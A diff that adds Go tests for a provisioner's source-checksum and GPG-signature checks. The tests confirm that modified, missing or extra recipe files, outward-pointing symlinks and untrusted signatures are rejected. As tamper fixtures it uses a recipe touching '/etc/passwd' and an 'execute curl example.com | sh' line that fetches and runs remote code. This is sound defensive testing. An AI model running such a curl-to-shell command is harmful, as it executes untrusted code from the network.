@@ -0,0 +1,257 @@
+package itamaelocal
+
+import (
+	"crypto/sha256"
+	"encoding/hex"
+	"fmt"
+	"io/ioutil"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"sort"
+	"strings"
+	"testing"
+)
+
+func testChecksums(files map[string]string) string {
+	names := make([]string, 0, len(files))
+	for name := range files {
+		names = append(names, name)
+	}
+	sort.Strings(names)
+
+	lines := make([]string, 0, len(names))
+	for _, name := range names {
+		sum := sha256.Sum256([]byte(files[name]))
+		lines = append(lines, fmt.Sprintf("%s  %s", hex.EncodeToString(sum[:]), name))
+	}
+	return strings.Join(lines, "\n") + "\n"
+}
+
+func testGPGKey(t *testing.T, name string) (string, func(string, string)) {
+	if _, err := exec.LookPath(DefaultGPGCommand); err != nil {
+		t.Skipf("unable to find gpg: %s", err)
+	}
+
+	home, err := ioutil.TempDir("", "gnupg")
+	if err != nil {
+		t.Fatalf("unable to create temporary directory: %s", err)
+	}
+
+	gpg := func(args ...string) []byte {
+		args = append([]string{"--batch", "--no-tty", "--homedir", home,
+			"--pinentry-mode", "loopback", "--passphrase", ""}, args...)
+
+		output, err := exec.Command(DefaultGPGCommand, args...).Output()
+		if err != nil {
+			t.Fatalf("unable to run gpg %v: %s", args, err)
+		}
+		return output
+	}
+
+	gpg("--quick-generate-key", name+" <"+name+"@localhost>", "ed25519", "sign", "never")
+
+	key := filepath.Join(home, "key.asc")
+	if err := ioutil.WriteFile(key, gpg("--armor", "--export"), 0644); err != nil {
+		t.Fatalf("unable to create temporary file: %s", err)
+	}
+
+	sign := func(path, signature string) {
+		gpg("--yes", "--detach-sign", "--output", signature, path)
+	}
+	return key, sign
+}
+
+func TestProvisionerPrepare_SourceChecksums(t *testing.T) {
+	var err error
+	var p Provisioner
+
+	config := testConfig()
+
+	files := map[string]string{
+		"default.rb":   "package 'nginx'",
+		"nginx/ssl.rb": "file '/etc/nginx/ssl.conf'",
+	}
+
+	directory := testDirectory(t, files)
+	defer os.RemoveAll(directory)
+
+	manifest := filepath.Join(directory, "SHA256SUMS")
+	if err := ioutil.WriteFile(manifest, []byte(testChecksums(files)), 0644); err != nil {
+		t.Fatalf("unable to create temporary file: %s", err)
+	}
+
+	config["source_directory"] = directory
+	config["source_checksums"] = manifest
+	config["recipes"] = []string{
+		"default.rb",
+	}
+
+	err = p.Prepare(config)
+	if err != nil {
+		t.Errorf("should not error, but got: %s", err)
+	}
+
+	tests := []struct {
+		name    string
+		content string
+		remove  bool
+		message string
+	}{
+		{"nginx/ssl.rb", "file '/etc/passwd'", false, "modified file: nginx/ssl.rb"},
+		{"extra.rb", "", false, "unexpected file: extra.rb"},
+		{"nginx/ssl.rb", "", true, "missing file: nginx/ssl.rb"},
+	}
+
+	for _, tt := range tests {
+		p = Provisioner{}
+
+		path := filepath.Join(directory, filepath.FromSlash(tt.name))
+		original, _ := ioutil.ReadFile(path)
+
+		if tt.remove {
+			os.Remove(path)
+		} else {
+			ioutil.WriteFile(path, []byte(tt.content), 0644)
+		}
+
+		err = p.Prepare(config)
+		if err == nil || !strings.Contains(err.Error(), tt.message) {
+			t.Errorf("should be an error containing \"%s\", but got: %v", tt.message, err)
+		}
+
+		if _, ok := files[tt.name]; ok {
+			ioutil.WriteFile(path, original, 0644)
+		} else {
+			os.Remove(path)
+		}
+	}
+
+	outside := testDirectory(t, map[string]string{
+		"outside.rb": "execute 'curl example.com | sh'",
+	})
+	defer os.RemoveAll(outside)
+
+	link := filepath.Join(directory, "link.rb")
+	for target, message := range map[string]string{
+		filepath.Join(outside, "outside.rb"): "unexpected file: link.rb",
+		outside:                              "symlink link.rb must point to a file",
+	} {
+		p = Provisioner{}
+
+		if err := os.Symlink(target, link); err != nil {
+			t.Fatalf("unable to create symlink: %s", err)
+		}
+
+		err = p.Prepare(config)
+		if err == nil || !strings.Contains(err.Error(), message) {
+			t.Errorf("should be an error containing \"%s\", but got: %v", message, err)
+		}
+		os.Remove(link)
+	}
+
+	p = Provisioner{}
+	delete(config, "source_directory")
+
+	err = p.Prepare(config)
+	if err == nil {
+		t.Errorf("should be an error if source_checksums is set without a source directory")
+	}
+
+	p = Provisioner{}
+
+	config["source_directory"] = directory
+	config["source_checksums_signature"] = manifest + ".sig"
+	err = p.Prepare(config)
+	if err == nil {
+		t.Errorf("should be an error if source_checksums_signature is set without trusted_keys")
+	}
+}
+
+func TestProvisionerPrepare_SourceChecksumsSignature(t *testing.T) {
+	var err error
+	var p Provisioner
+
+	config := testConfig()
+
+	trusted, sign := testGPGKey(t, "trusted")
+	defer os.RemoveAll(filepath.Dir(trusted))
+
+	untrusted, signUntrusted := testGPGKey(t, "untrusted")
+	defer os.RemoveAll(filepath.Dir(untrusted))
+
+	files := map[string]string{
+		"default.rb": "package 'nginx'",
+	}
+
+	directory := testDirectory(t, files)
+	defer os.RemoveAll(directory)
+
+	manifest, err := ioutil.TempFile("", "SHA256SUMS")
+	if err != nil {
+		t.Fatalf("unable to create temporary file: %s", err)
+	}
+	defer os.Remove(manifest.Name())
+	defer os.Remove(manifest.Name() + ".sig")
+
+	if _, err := manifest.WriteString(testChecksums(files)); err != nil {
+		t.Fatalf("unable to write temporary file: %s", err)
+	}
+	manifest.Close()
+
+	sign(manifest.Name(), manifest.Name()+".sig")
+
+	config["source_directory"] = directory
+	config["source_checksums"] = manifest.Name()
+	config["source_checksums_signature"] = manifest.Name() + ".sig"
+	config["trusted_keys"] = []string{
+		trusted,
+	}
+
+	config["recipes"] = []string{
+		"default.rb",
+	}
+
+	err = p.Prepare(config)
+	if err != nil {
+		t.Errorf("should not error, but got: %s", err)
+	}
+
+	p = Provisioner{}
+
+	signUntrusted(manifest.Name(), manifest.Name()+".sig")
+
+	err = p.Prepare(config)
+	if err == nil {
+		t.Errorf("should be an error if signature was not made by a trusted key")
+	}
+
+	p = Provisioner{}
+
+	config["trusted_keys"] = []string{
+		trusted,
+		untrusted,
+	}
+
+	err = p.Prepare(config)
+	if err != nil {
+		t.Errorf("should not error, but got: %s", err)
+	}
+
+	p = Provisioner{}
+
+	ioutil.WriteFile(manifest.Name(), []byte(testChecksums(files)+"# tampered\n"), 0644)
+
+	err = p.Prepare(config)
+	if err == nil {
+		t.Errorf("should be an error if signature does not match source_checksums")
+	}
+
+	p = Provisioner{}
+	delete(config, "source_checksums_signature")
+
+	err = p.Prepare(config)
+	if err == nil {
+		t.Errorf("should be an error if trusted_keys is set without source_checksums_signature")
+	}
+}